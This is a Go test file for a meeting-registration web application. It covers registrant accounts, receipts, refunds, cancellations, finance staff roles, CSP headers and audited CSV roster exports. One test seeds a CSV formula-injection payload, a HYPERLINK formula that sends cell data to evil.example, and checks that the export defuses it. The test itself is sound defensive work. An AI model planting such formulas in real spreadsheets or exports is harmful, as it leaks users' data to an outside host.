package web

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"plenary/internal/audit"
	"plenary/internal/auth"
	"plenary/internal/inventory"
	"plenary/internal/mail"
	"plenary/internal/meetings"
	"plenary/internal/payments"
	"plenary/internal/people"
	"plenary/internal/secrets"
	"plenary/internal/store"
	"plenary/internal/store/storetest"
)

// registrantSite is an account site with the test processor on its own
// origin, for the registrant's side of meetings.
type registrantSite struct {
	*accountSite
	proc   *payments.TestProcessor
	procHS *httptest.Server
}

func newRegistrantSite(t *testing.T, db *store.DB) *registrantSite {
	t.Helper()
	keys, err := secrets.FromBytes([]byte("registrant test master key, 32 bytes at least"))
	if err != nil {
		t.Fatal(err)
	}
	proc := &payments.TestProcessor{Secret: keys.Derive("test-processor-webhook")}
	a := newAccountSite(t, siteOptions{DB: db, Routes: func(s *Server) {
		s.Keys, s.Payments = keys, proc
		s.Inventory.Enable(inventory.TestProcessorName)
	}})
	hs := httptest.NewServer(proc.Handler())
	t.Cleanup(hs.Close)
	proc.Origin, proc.WebhookURL = hs.URL, a.URL+"/payments/webhook/test"
	return &registrantSite{accountSite: a, proc: proc, procHS: hs}
}

// addMeeting stores a meeting open for registration, starting in 30
// days, with a paid and a free ticket; it returns the meeting and the two
// ticket ids.
func addMeeting(t *testing.T, db *store.DB, name string) (id int64, full, free string) {
	t.Helper()
	now := time.Now().UTC()
	m := meetings.Meeting{Name: name, StartsOn: now.AddDate(0, 0, 30).Format(meetings.DateLayout), EndsOn: now.AddDate(0, 0, 32).Format(meetings.DateLayout),
		Place: "Lisbon", TimeZone: "Europe/Lisbon", Opens: now.AddDate(0, 0, -1), Closes: now.AddDate(0, 0, 20), Capacity: 50,
		Tickets: []meetings.Ticket{{Name: "Full", Fee: 35000, Currency: "USD"}, {Name: "Remote", Fee: 0, Currency: "USD"}}}
	ctx := context.Background()
	id, err := meetings.Insert(ctx, db, m, now)
	if err != nil {
		t.Fatal(err)
	}
	got, err := meetings.Get(ctx, db, id)
	if err != nil || len(got.Tickets) != 2 {
		t.Fatalf("reading the meeting back: %+v %v", got, err)
	}
	return id, itoa(got.Tickets[0].ID), itoa(got.Tickets[1].ID)
}

// register sends the registration form as b (nil: without an account)
// and returns the registration's page.
func (rs *registrantSite) register(t *testing.T, b *browser, meeting int64, form url.Values) string {
	t.Helper()
	if b == nil {
		b = rs.browser(t)
	}
	res := b.post("/meetings/"+itoa(meeting)+"/register", form)
	if res.Status != http.StatusSeeOther || !strings.HasPrefix(res.Header.Get("Location"), "/registrations/") {
		t.Fatalf("registering %s: %d %.400s", form.Get("email"), res.Status, res.Body)
	}
	return res.Header.Get("Location")
}

// pay pays the registration at regPath with the good card on the
// processor's own page.
func (rs *registrantSite) pay(t *testing.T, regPath string) {
	t.Helper()
	b := rs.browser(t)
	res := b.post(regPath+"/pay", url.Values{})
	checkout := res.Header.Get("Location")
	if res.Status != http.StatusSeeOther || !strings.HasPrefix(checkout, rs.procHS.URL) {
		t.Fatalf("pay: %d %q", res.Status, checkout)
	}
	c := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	back, err := c.PostForm(checkout, url.Values{"number": {payments.CardSucceeds}, "exp_month": {"12"}, "exp_year": {"2031"}, "cvc": {"123"}, "name": {"Card Holder"}})
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, back.Body)
	back.Body.Close()
	if back.StatusCode != http.StatusSeeOther {
		t.Fatalf("paying at the processor: %d", back.StatusCode)
	}
	if page := b.get(regPath); !strings.Contains(page.Body, "paid, you are registered") {
		t.Fatalf("not paid after paying:\n%.2000s", page.Body)
	}
}

// TestRegistrantAccountReceiptsCancelAndRefund: /account lists the
// registrations made signed in and those made without an account from an
// address whose mailbox the person proved, never those of an address
// staff put on the account; a paid one has a printable receipt; the
// registrant asks for a refund (once), cancels a free registration (the
// place is freed) and a paid one (a refund request for finance), each
// audited; finance sees the requests and refunds one through the
// processor; nothing can be changed once the meeting has begun.
func TestRegistrantAccountReceiptsCancelAndRefund(t *testing.T) {
	storetest.Engines(t, func(t *testing.T, db *store.DB) {
		ctx := context.Background()
		rs := newRegistrantSite(t, db)
		meeting, full, free := addMeeting(t, db, "Lisbon plenary")

		mid := rs.signUp(t, "Mo Registrant", "mo@example.org")
		rs.makeStaff(t, "Sam Staff", "sam@org.example", auth.Secretariat)
		sec := rs.signIn(t, "sam@org.example")
		if res := sec.post("/admin/people/"+itoa(mid)+"/emails", url.Values{"email": {"vera@example.net"}, "origin": {"staff"}, "reason": {"asked by phone"}}); res.Status != http.StatusSeeOther {
			t.Fatalf("adding the address: %d %.300s", res.Status, res.Body)
		}
		mo := rs.signIn(t, "mo@example.org")
		if res := mo.post("/verify/"+rs.mailedToken(t, "mo@example.org", "verify"), nil); res.Status/100 != 2 && res.Status/100 != 3 {
			t.Fatalf("confirming the staff-entered address: %d", res.Status)
		}
		if _, e, err := people.FindByEmail(ctx, db, "vera@example.net"); err != nil || !e.Verified() || e.MailboxProven() {
			t.Fatalf("the staff-entered address should be confirmed but not proven (%+v, %v), so the case was not tried", e, err)
		}

		// Signed in, the form starts with Mo's name and primary address.
		if form := mo.get("/meetings/" + itoa(meeting) + "/register"); !strings.Contains(form.Body, `required value="mo@example.org"`) || !strings.Contains(form.Body, `value="Mo Registrant"`) {
			t.Error("the registration form does not start with the signed-in participant's name and address")
		}

		// Without an account from Mo's own address (paid), from the
		// staff-entered one (someone else's), and signed in (free).
		paidPath := rs.register(t, nil, meeting, registration("Mo Registrant", "MO@example.org", full, false))
		veraPath := rs.register(t, nil, meeting, registration("Vera Other", "vera@example.net", full, false))
		freePath := rs.register(t, mo, meeting, registration("Mo Registrant", "mo-work@example.com", free, false))
		// The registration's page may send its pay form to the processor's
		// origin (browsers hold the redirect to form-action), and only there.
		if csp := rs.browser(t).get(paidPath).Header.Get("Content-Security-Policy"); !strings.Contains(csp, "form-action 'self' "+rs.procHS.URL+";") {
			t.Errorf("the registration page's CSP does not let its pay form reach the processor: %q", csp)
		}
		if csp := mo.get("/account").Header.Get("Content-Security-Policy"); !strings.Contains(csp, "form-action 'self';") {
			t.Errorf("another page's CSP lets forms leave the site: %q", csp)
		}
		rs.pay(t, paidPath)

		page := mo.get("/account")
		for _, want := range []string{paidPath + `"`, freePath + `"`, paidPath + "/receipt", "Lisbon plenary"} {
			if !strings.Contains(page.Body, want) {
				t.Errorf("Mo's account page lacks %q", want)
			}
		}
		if strings.Contains(page.Body, veraPath) {
			t.Error("Mo's account page shows a registration from an address whose mailbox Mo never proved")
		}

		// The export has the registration from Mo's proven address, not the
		// one from the address staff put on the account (R2); the privacy
		// page declares what a refund request keeps.
		export := mo.get("/account/export")
		if export.Status != 200 || !strings.Contains(export.Body, "mo@example.org") || !strings.Contains(export.Body, "12 Quay Street") || strings.Contains(export.Body, "Vera Other") {
			t.Errorf("Mo's export: %d, want the registration from mo@example.org and not Vera's: mo %v quay %v vera %v", export.Status, strings.Contains(export.Body, "mo@example.org"), strings.Contains(export.Body, "12 Quay Street"), strings.Contains(export.Body, "Vera Other"))
		}
		if privacy := rs.browser(t).get("/privacy"); !strings.Contains(privacy.Body, "the reason you gave when asking for a refund") {
			t.Error("the privacy page does not declare the refund reason")
		}

		// The receipt: printable, no script or inline style, not cached.
		receipt := rs.browser(t).get(paidPath + "/receipt")
		for _, want := range []string{"Receipt R-", "USD 350.00", "Mo Registrant", "12 Quay Street", "Lisbon plenary", "tx_"} {
			if !strings.Contains(receipt.Body, want) {
				t.Errorf("the receipt lacks %q:\n%.3000s", want, receipt.Body)
			}
		}
		if receipt.Status != 200 || receipt.Header.Get("Cache-Control") != "no-store" || strings.Contains(receipt.Body, "<script") || strings.Contains(receipt.Body, "style=") {
			t.Errorf("receipt: %d, Cache-Control %q, or inline script or style", receipt.Status, receipt.Header.Get("Cache-Control"))
		}
		if res := rs.browser(t).get(freePath + "/receipt"); res.Status != http.StatusNotFound || !strings.Contains(res.Body, "no receipt") {
			t.Errorf("receipt of a free registration: %d", res.Status)
		}

		// A refund request from the account page, once.
		if res := mo.post(paidPath+"/refund", url.Values{"back": {"account"}, "reason": {"My flight was cancelled."}}); res.Status != http.StatusSeeOther ||
			res.Header.Get("Location") != "/account?done=refund-requested#registrations" {
			t.Fatalf("refund request: %d %q %.300s", res.Status, res.Header.Get("Location"), res.Body)
		}
		if res := mo.post(paidPath+"/refund", url.Values{"back": {"account"}}); res.Status != http.StatusConflict || !strings.Contains(res.Body, "already asked") {
			t.Errorf("second refund request: %d", res.Status)
		}
		if res := rs.browser(t).post(freePath+"/refund", url.Values{}); res.Status != http.StatusConflict || !strings.Contains(res.Body, "Only a paid registration") {
			t.Errorf("refund request of a free registration: %d", res.Status)
		}
		if n := count(t, db, "SELECT COUNT(*) FROM registrations WHERE refund_requested_at IS NOT NULL AND refund_reason = 'My flight was cancelled.' AND status = 'paid'"); n != 1 {
			t.Errorf("%d recorded refund requests, want 1 (the registration kept)", n)
		}
		if !strings.Contains(mo.get("/account").Body, "refund asked on") {
			t.Error("the account page does not show the refund request")
		}

		// Cancelling the free one from its link frees its place.
		before, _ := meetings.Get(ctx, db, meeting)
		if res := rs.browser(t).post(freePath+"/cancel", url.Values{}); res.Status != 200 || !strings.Contains(res.Body, "Your registration is cancelled") {
			t.Fatalf("cancel: %d %.500s", res.Status, res.Body)
		}
		after, _ := meetings.Get(ctx, db, meeting)
		if after.Taken != before.Taken-1 {
			t.Errorf("places taken %d -> %d: the cancelled place is not free", before.Taken, after.Taken)
		}
		if res := rs.browser(t).post(freePath+"/cancel", url.Values{}); res.Status != http.StatusConflict {
			t.Errorf("second cancel: %d", res.Status)
		}

		// Cancelling Vera's paid one (through her link) files a refund request.
		rs.pay(t, veraPath)
		if res := rs.browser(t).post(veraPath+"/cancel", url.Values{}); res.Status != 200 || !strings.Contains(res.Body, "refund request went to finance") {
			t.Errorf("cancelling a paid registration: %d %.500s", res.Status, res.Body)
		}
		// Her registration's confirmation went out after an earlier answer,
		// by its own goroutine, so it may arrive after the notice.
		cancelled := func(m mail.Message) bool { return strings.Contains(m.Subject, "is cancelled") }
		if m, ok := rs.newestMail(t, "vera@example.net", cancelled); !ok || !strings.Contains(m.Body, "refund request") || !strings.Contains(m.Body, veraPath) {
			t.Errorf("no cancellation notice to the registration's address: %+v", m)
		}
		if n := count(t, db, "SELECT COUNT(*) FROM registrations WHERE status = 'cancelled' AND refund_requested_at IS NOT NULL AND cancelled_at IS NOT NULL"); n != 1 {
			t.Errorf("%d cancelled registrations with a refund request, want 1", n)
		}
		for action, want := range map[string]int{"meetings.cancel": 2, "meetings.refund_request": 1} {
			if entries, err := rs.Audit.List(ctx, audit.Filter{Action: action}); err != nil || len(entries) != want {
				t.Errorf("%d audit entries %s, want %d (%v)", len(entries), action, want, err)
			}
		}

		// A checkout left open and paid after its registration was
		// cancelled joins the requests.
		lateOpen := rs.register(t, nil, meeting, registration("Olga Open", "olga@example.net", full, false))
		open := rs.browser(t).post(lateOpen+"/pay", url.Values{}).Header.Get("Location")
		if res := rs.browser(t).post(lateOpen+"/cancel", url.Values{}); res.Status != 200 {
			t.Fatalf("cancelling an unpaid registration: %d", res.Status)
		}
		c := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
		if res, err := c.PostForm(open, url.Values{"number": {payments.CardSucceeds}, "exp_month": {"12"}, "exp_year": {"2031"}, "cvc": {"123"}}); err != nil {
			t.Fatal(err)
		} else {
			res.Body.Close()
		}

		// Finance sees the requests and refunds one through the processor.
		rs.makeStaff(t, "Fay Finance", "fay@org.example", auth.Finance)
		fin := rs.signIn(t, "fay@org.example")
		list := fin.get("/admin/refunds")
		if list.Status != 200 || !strings.Contains(list.Body, "My flight was cancelled.") || !strings.Contains(list.Body, "cancelled by the registrant") ||
			!strings.Contains(list.Body, "Olga Open") || !strings.Contains(list.Body, "paid after the registration was cancelled") {
			t.Fatalf("finance's refund requests: %d %.2000s", list.Status, list.Body)
		}
		if res := sec.get("/admin/refunds"); res.Status != http.StatusForbidden {
			t.Errorf("secretariat on /admin/refunds: %d", res.Status)
		}
		var pid int64
		if err := db.QueryRow(ctx, "SELECT p.id FROM payments p JOIN registrations r ON r.id = p.registration_id WHERE r.refund_reason = 'My flight was cancelled.' AND p.status = 'paid'").Scan(&pid); err != nil {
			t.Fatal(err)
		}
		if res := fin.post("/admin/payments/"+itoa(pid)+"/refund", url.Values{"confirm": {"yes"}}); res.Status != http.StatusSeeOther {
			t.Fatalf("refund: %d %.300s", res.Status, res.Body)
		}
		if strings.Contains(fin.get("/admin/refunds").Body, "My flight was cancelled.") {
			t.Error("a refunded request stays on finance's list")
		}
		if r := rs.browser(t).get(paidPath + "/receipt"); !strings.Contains(r.Body, "was refunded on") {
			t.Errorf("the receipt of a refunded payment does not say so:\n%.2000s", r.Body)
		}

		// Once the meeting has begun, nothing changes.
		late := rs.register(t, nil, meeting, registration("Late Larry", "larry@example.net", free, false))
		if _, err := db.Exec(ctx, "UPDATE meetings SET starts_on = ? WHERE id = ?", time.Now().UTC().AddDate(0, 0, -1).Format(meetings.DateLayout), meeting); err != nil {
			t.Fatal(err)
		}
		if res := rs.browser(t).post(late+"/cancel", url.Values{}); res.Status != http.StatusConflict || !strings.Contains(res.Body, "has begun") {
			t.Errorf("cancel after the start: %d", res.Status)
		}
		if n := count(t, db, "SELECT COUNT(*) FROM registrations WHERE name = 'Late Larry' AND status = 'confirmed' AND cancelled_at IS NULL"); n != 1 {
			t.Error("a refused cancel changed the registration")
		}
	})
}

// TestMeetingRosterExportAndEdit: the secretariat's page of one meeting
// lists its registrations (the view audited); the CSV export is not
// cached, audited, and defuses cells a spreadsheet would run as formulas;
// the meeting and its tickets can be edited, but a ticket type that
// registrations hold keeps its fee and stays, and the capacity cannot go
// below the places taken.
func TestMeetingRosterExportAndEdit(t *testing.T) {
	storetest.Engines(t, func(t *testing.T, db *store.DB) {
		ctx := context.Background()
		ms := newMeetingSite(t, db)
		meeting := ms.createMeeting(t, "Roster meeting", "5")
		id := strings.TrimPrefix(meeting, "/meetings/")
		full, free := ticketIDs(t, ms.send(t, "GET", ms.url+meeting+"/register", nil, nil).Body)
		evil := registration("Eve Formula", "eve@example.net", free, false)
		evil.Set("affiliation", `=HYPERLINK("http://evil.example/?"&A1,"x")`)
		evil.Set("postal_address", "+1 Plus Street")
		for _, f := range []url.Values{registration("Ada Roster", "ada@example.net", full, true), evil} {
			if res := ms.send(t, "POST", ms.url+meeting+"/register", f, nil); res.Status != http.StatusSeeOther {
				t.Fatalf("registering: %d %.300s", res.Status, res.Body)
			}
		}

		page := ms.send(t, "GET", ms.url+"/admin/meetings/"+id, nil, role("secretariat"))
		if page.Status != 200 || !strings.Contains(page.Body, "Ada Roster") || !strings.Contains(page.Body, "eve@example.net") ||
			!strings.Contains(page.Body, "registrations.csv") || page.Header.Get("Cache-Control") != "no-store" {
			t.Fatalf("the meeting's staff page: %d %q\n%.3000s", page.Status, page.Header.Get("Cache-Control"), page.Body)
		}
		if !strings.Contains(ms.send(t, "GET", ms.url+"/admin/meetings", nil, role("secretariat")).Body, `href="/admin/meetings/`+id+`"`) {
			t.Error("/admin/meetings does not link to the meeting's staff page")
		}

		res := ms.send(t, "GET", ms.url+"/admin/meetings/"+id+"/registrations.csv", nil, role("secretariat"))
		if res.Status != 200 || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") || res.Header.Get("Cache-Control") != "no-store" ||
			!strings.HasPrefix(res.Header.Get("Content-Disposition"), "attachment") {
			t.Fatalf("export: %d %q %q %q", res.Status, res.Header.Get("Content-Type"), res.Header.Get("Cache-Control"), res.Header.Get("Content-Disposition"))
		}
		for _, want := range []string{"registration,name,email,postal_address", "Ada Roster,ada@example.net", `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`, "'+1 Plus Street", "USD 350.00"} {
			if !strings.Contains(res.Body, want) {
				t.Errorf("the CSV lacks %q:\n%s", want, res.Body)
			}
		}
		if strings.Contains(res.Body, ",=HYPERLINK") || strings.Contains(res.Body, ",+1 Plus") {
			t.Errorf("the CSV has a cell a spreadsheet runs as a formula:\n%s", res.Body)
		}
		for action, want := range map[string]int{"meetings.roster.view": 1, "meetings.roster.export": 1} {
			if entries, err := ms.Audit.List(ctx, audit.Filter{Action: action}); err != nil || len(entries) != want {
				t.Errorf("%d audit entries %s, want %d (%v)", len(entries), action, want, err)
			}
		}

		today := time.Now().UTC()
		edit := url.Values{"name": {"Roster meeting, renamed"}, "starts_on": {today.AddDate(0, 0, 31).Format("2006-01-02")}, "ends_on": {today.AddDate(0, 0, 34).Format("2006-01-02")},
			"place": {"Akureyri"}, "time_zone": {"Atlantic/Reykjavik"}, "opens": {today.AddDate(0, 0, -1).Format("2006-01-02")}, "closes": {today.AddDate(0, 0, 20).Format("2006-01-02")},
			"capacity": {"1"}, "tickets": {"Full | 400.00 | USD"}, "publish_attendees": {"1"}}
		bad := ms.send(t, "POST", ms.url+"/admin/meetings/"+id, edit, role("secretariat"))
		for _, want := range []string{"cannot be below the 2 places", "&#34;Full&#34; has registrations, so its fee", "&#34;Remote&#34; has registrations, so it cannot be removed", "Roster meeting, renamed"} {
			if bad.Status != http.StatusBadRequest || !strings.Contains(bad.Body, want) {
				t.Errorf("a refused edit: %d, lacks %q", bad.Status, want)
			}
		}
		if m, _ := meetingByID(t, db, id); m.Name != "Roster meeting" || m.Capacity != 5 {
			t.Errorf("a refused edit changed the meeting: %+v", m)
		}
		edit.Set("capacity", "8")
		edit.Set("tickets", "Full | 350.00 | USD\nRemote | 0 | USD\nStudent | 50.00 | USD")
		if res := ms.send(t, "POST", ms.url+"/admin/meetings/"+id, edit, role("secretariat")); res.Status != http.StatusSeeOther {
			t.Fatalf("edit: %d %.2000s", res.Status, res.Body)
		}
		m, _ := meetingByID(t, db, id)
		if m.Name != "Roster meeting, renamed" || m.Capacity != 8 || m.Place != "Akureyri" || len(m.Tickets) != 3 || m.Tickets[2].Name != "Student" || m.Tickets[2].Fee != 5000 {
			t.Errorf("after the edit: %+v", m)
		}
		if entries, err := ms.Audit.List(ctx, audit.Filter{Action: "meetings.update"}); err != nil || len(entries) != 1 {
			t.Errorf("%d audit entries for the edit (%v)", len(entries), err)
		}
	})
}

func meetingByID(t *testing.T, db *store.DB, id string) (meetings.Meeting, error) {
	t.Helper()
	n, err := strconv.ParseInt(id, 10, 64)
	if err != nil {
		t.Fatal(err)
	}
	return meetings.Get(context.Background(), db, n)
}

// TestRegistrantIsToldOfRefundRequestAndRefund: a registrant who asks for
// a refund is mailed an acknowledgement; when finance refunds the
// payment, the registrant is mailed the amount with its currency, the day
// and that the place is released.
func TestRegistrantIsToldOfRefundRequestAndRefund(t *testing.T) {
	storetest.Engines(t, func(t *testing.T, db *store.DB) {
		ctx := context.Background()
		rs := newRegistrantSite(t, db)
		meeting, full, _ := addMeeting(t, db, "Porto plenary")
		regPath := rs.register(t, nil, meeting, registration("Rita Refund", "rita@example.net", full, false))
		rs.pay(t, regPath)
		today := time.Now().UTC().Format("2 January 2006")

		if res := rs.browser(t).post(regPath+"/refund", url.Values{"reason": {"I cannot travel."}}); res.Status != http.StatusOK {
			t.Fatalf("asking for a refund: %d %.300s", res.Status, res.Body)
		}
		ack, ok := rs.newestMail(t, "rita@example.net", func(m mail.Message) bool { return strings.Contains(m.Subject, "refund request") })
		if !ok || !strings.Contains(ack.Subject, "Porto plenary") || !strings.Contains(ack.Body, "USD 350.00") || !strings.Contains(ack.Body, today) ||
			!strings.Contains(ack.Body, regPath) {
			t.Errorf("no acknowledgement of the refund request: %+v", ack)
		}

		rs.makeStaff(t, "Fay Finance", "fay@org.example", auth.Finance)
		fin := rs.signIn(t, "fay@org.example")
		var pid int64
		if err := db.QueryRow(ctx, "SELECT id FROM payments WHERE status = 'paid'").Scan(&pid); err != nil {
			t.Fatal(err)
		}
		if res := fin.post("/admin/payments/"+itoa(pid)+"/refund", url.Values{"confirm": {"yes"}}); res.Status != http.StatusSeeOther {
			t.Fatalf("refund: %d %.300s", res.Status, res.Body)
		}
		refunded := func(m mail.Message) bool { return strings.Contains(m.Subject, "refunded") }
		m, ok := rs.newestMail(t, "rita@example.net", refunded)
		if !ok {
			t.Fatal("the registrant was not told of the refund")
		}
		for _, want := range []string{"USD 350.00", today, "place is released", "Porto plenary", regPath} {
			if !strings.Contains(m.Body+m.Subject, want) {
				t.Errorf("the refund notice does not say %q:\n%s", want, m.Body)
			}
		}
		n := 0
		for _, m := range rs.outbox.Messages() {
			if m.To == "rita@example.net" && refunded(m) {
				n++
			}
		}
		if n != 1 {
			t.Errorf("%d refund notices, want 1", n)
		}
	})
}
